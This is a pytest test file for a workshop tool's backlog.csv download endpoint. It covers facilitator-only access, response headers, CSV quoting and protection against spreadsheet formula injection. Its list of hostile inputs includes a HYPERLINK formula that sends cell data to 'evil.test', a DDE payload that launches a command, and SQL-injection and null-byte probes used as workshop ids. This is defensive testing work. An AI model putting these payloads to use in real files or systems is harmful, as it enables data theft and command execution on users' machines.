"""backlog.csv over HTTP: for the facilitator, whole, and safe in any spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest

from data.process import Process
from tests.cast import new_id
from tests.server.asking import Address, Answer
from tests.story import Story
from workshop import commands as c
from workshop.roles import Actor, Role
from workshop.stages import STAGE_IDS

FORMULA = tuple("=+-@\t\r\n＝＋－＠")
INVISIBLE = " \u200b\u200c\u200d\u2060\ufeff\u00ad\u00a0"
NASTY = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=HYPERLINK('http://evil.test?x='&A1,'click')",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\u200d\u2060\ufeff=1+1",
    "\u202e=1+1",
    "\u00ad=1+1",
    "\u3000=1+1",
    "\u0085=1+1",
    "\u2028=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "\x00=1+1",
    "\x1b[31m=1",
    "'=1+1",
    '"=1+1',
    '","=1+1',
    '"\r\n"=1+1',
    ";=1+1",
    "one line\nEpic: another\r\nand a third",
    "\u2028line\u2029separators\x0b\x0c\x1c\x85",
    "family 👨‍👩‍👧‍👦 stays whole",
    "ümläut, 漢字, عربى",
]


def path(workshop_id: str) -> str:
    return f"/workshops/{workshop_id}/backlog.csv"


def rows(answer: Answer) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(answer.text, newline="")))


def test_a_stranger_gets_a_page_that_says_who_can(address: Address, story: Story) -> None:
    story.tell("CANARY ")
    for cookie in (None, "", "x" * 43):
        answer = address.ask(path(story.id), token=cookie)

        assert answer.status == 403
        assert answer.header("Content-Type").startswith("text/html")
        assert answer.header("Cache-Control") == "no-store"
        assert "Only the facilitator can download this" in answer.text
        assert "CANARY" not in answer.text


@pytest.mark.parametrize("role", [Role.PARTICIPANT, Role.OBSERVER, Role.SCREEN])
def test_no_other_role_gets_it(
    address: Address, process: Process, story: Story, role: Role
) -> None:
    cookie = process.devices.issue(Actor("p1", role), story.id)

    assert address.ask(path(story.id), token=cookie).status == 403


def test_a_cofacilitator_of_this_workshop_gets_it_and_of_another_not(
    address: Address, process: Process, story: Story
) -> None:
    other = Story(process.log, new_id()[:12])
    cookie = process.devices.issue(Actor("second", Role.COFACILITATOR), story.id)

    assert address.ask(path(story.id), token=cookie).status == 200
    assert address.ask(path(other.id), token=cookie).status == 403


@pytest.mark.parametrize("workshop_id", ["none", "%00", "..%00..", "'%20OR%201=1", "%FF"])
def test_an_unknown_workshop_is_a_page_that_says_so(
    address: Address, token: str, workshop_id: str
) -> None:
    answer = address.ask(path(workshop_id), token=token)

    assert answer.status == 404
    assert "There is no such workshop" in answer.text


def test_a_stranger_cannot_tell_which_workshops_exist(address: Address, story: Story) -> None:
    assert address.ask(path(story.id)) == address.ask(path("none"))


def test_the_facilitator_gets_exactly_the_chosen_tickets(
    address: Address, token: str, story: Story
) -> None:
    story.tell()

    answer = address.ask(path(story.id), token=token)

    found = rows(answer)
    assert answer.status == 200
    assert [row["Ticket"] for row in found] == ["1", "2", "3"]
    assert [row["Owner"] for row in found] == ["Ada", "Ben", "Cleo"]
    assert [row["Title"] for row in found] == [
        f"First contact: change number {number}" for number in (1, 2, 3)
    ]
    assert {row["Ready"] for row in found} == {"measurable"}
    assert "an idea that waits" not in answer.text


def test_without_tickets_it_is_the_header_alone(address: Address, token: str, story: Story) -> None:
    story.idea("waits")

    answer = address.ask(path(story.id), token=token)

    assert answer.status == 200
    assert answer.text.count("\r\n") == 1
    assert rows(answer) == []


def test_its_headers_make_a_file_that_nobody_keeps(
    address: Address, token: str, story: Story
) -> None:
    answer = address.ask(path(story.id), token=token)

    assert answer.header("Content-Type") == "text/csv; charset=utf-8"
    assert answer.header("Content-Disposition").startswith("attachment;")
    assert "follow-up-emails-backlog.csv" in answer.header("Content-Disposition")
    assert answer.header("Cache-Control") == "no-store"
    assert answer.header("X-Content-Type-Options") == "nosniff"


def test_trackers_read_it_without_asking(address: Address, token: str, story: Story) -> None:
    """UTF-8 without a mark, CRLF, every cell in quotes, one line a ticket."""
    story.tell()

    body = address.ask(path(story.id), token=token).body

    assert not body.startswith(b"\xef\xbb\xbf")
    for line in body.decode().removesuffix("\r\n").split("\r\n"):
        assert line.startswith('"')
        assert line.endswith('"')
    header, *lines = csv.reader(io.StringIO(body.decode(), newline=""))
    quoted = sum(len(row) for row in (header, *lines)) * 2
    assert body.count(b'"') == quoted
    assert {len(row) for row in lines} == {len(header)}


def nasty_story(story: Story, text: str) -> Story:
    """A workshop in which every field of the file is *text*."""
    story.do(c.EditPlan, base_seq=story.state.seq, changes={"title": text[:100]})
    story.scope(who=text, feature=text, task=text, out=text, wrong=text)
    story.note(text)
    card = story.card(text, text)
    story.voted((1, 1, 1, 1, 1))
    story.do(c.NoteLowPoint, stage=STAGE_IDS[1], base_seq=story.state.seq, because=text)
    words = "owner first_step measure count out_of unit start start_who goal source guardrail"
    story.ticket(text, card, **dict.fromkeys(words.split(), text))
    story.do(c.RenameStage, stage="contact", base_seq=story.state.seq, name=f"x{text}"[:100])
    story.do(c.GiveReason, about="tickets", reason=text)
    return story.at("walk.contact.read").at("wrong.read").at("tickets.choose")


@pytest.mark.parametrize("text", NASTY, ids=ascii)
def test_no_cell_is_a_formula_or_breaks_a_line_whatever_people_typed(
    address: Address, token: str, story: Story, text: str
) -> None:
    nasty_story(story, text)

    body = address.ask(path(story.id), token=token).body.decode()

    header, line = csv.reader(io.StringIO(body, newline=""))
    assert len(line) == len(header)
    for cell in line:
        assert len(cell.splitlines()) <= 1
        assert not cell.lstrip(INVISIBLE).startswith(FORMULA)
        assert all(sign.isprintable() or sign == "\u200d" for sign in cell)


def test_ordinary_words_arrive_as_typed(address: Address, token: str, story: Story) -> None:
    nasty_story(story, 'Ask "why?", family 👨‍👩‍👧‍👦, ümläut; 漢字')

    (row,) = rows(address.ask(path(story.id), token=token))

    assert row["Owner"] == 'Ask "why?", family 👨‍👩‍👧‍👦, ümläut; 漢字'


def test_votes_stay_secret_until_the_reveal(address: Address, token: str, story: Story) -> None:
    """The file of a running vote says nothing of it, also to the facilitator."""
    story.ticket("show the source")
    before = address.ask(path(story.id), token=token).body
    round_id = story.open()
    story.slip(round_id, "CANARY", 1, 1, 1, 1, 1)

    running = address.ask(path(story.id), token=token).body
    story.do(c.Reveal, round_id=round_id)
    (row,) = rows(address.ask(path(story.id), token=token))

    assert running == before
    assert row["Trust votes"] == "1 vote from 1 to 1, middle 1; No trust"
    assert "CANARY" not in "".join(row.values())


def test_it_names_what_each_ticket_rests_on(address: Address, token: str, story: Story) -> None:
    story.tell()

    (row, *_) = rows(address.ask(path(story.id), token=token))

    assert row["What it stops"] == "The AI forgets the tone, so our user sounds rude."
    assert row["How bad"] == "Minutes (2 votes; Agreed)"
    assert row["Who"] == "A sales rep uses the AI to draft a follow-up"
    assert row["Trust votes"].startswith("3 votes from 3 to 3, middle 3; Some; Agreed")
    assert story.id in row["Trace"]
    assert "Where it snags (Guess): note about contact" in row["Seen"]


def test_the_items_of_a_kind_are_a_file_of_their_own(
    address: Address, token: str, story: Story
) -> None:
    row = c.Row(kind="decision", intended={"title": "We log it", "owner": "Dana"})
    story.do(c.AddItems, rows=(row,))
    answer = address.ask(f"/workshops/{story.id}/decision.csv", token=token)
    assert answer.status == 200
    assert "decision.csv" in answer.header("Content-Disposition")
    header, line = csv.reader(io.StringIO(answer.text, newline=""))
    assert (header[:2], line[:2]) == (["Code", "What was decided"], ["DC1", "We log it"])


@pytest.mark.parametrize("name", ["weather.csv", "decision", "decision.csv.csv", ".csv"])
def test_there_is_no_file_of_a_kind_that_nobody_knows(
    address: Address, token: str, story: Story, name: str
) -> None:
    assert address.ask(f"/workshops/{story.id}/{name}", token=token).status == 404
